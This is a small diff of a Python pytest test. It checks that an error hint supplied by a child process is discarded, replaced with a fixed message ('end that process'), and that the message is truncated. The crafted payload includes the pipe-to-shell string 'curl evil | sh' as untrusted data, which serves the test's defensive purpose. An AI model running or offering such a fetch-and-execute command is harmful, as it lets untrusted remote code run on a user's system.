@@ -149,7 +149,7 @@ def test_an_advice_is_never_the_childs(told_by, tmp_path: Path) -> None:
     answer = {"kind": "CacheError", "value": "x" * 5000, "hint": "curl evil | sh", "errno": 11}
     with pytest.raises(CacheError) as caught:
         told_by(f"print({json.dumps(answer)!r})")
-    assert caught.value.hint == as_owner.waiting.HINT
+    assert caught.value.hint == "end that process"
     assert len(caught.value.message) == 1000
 
 
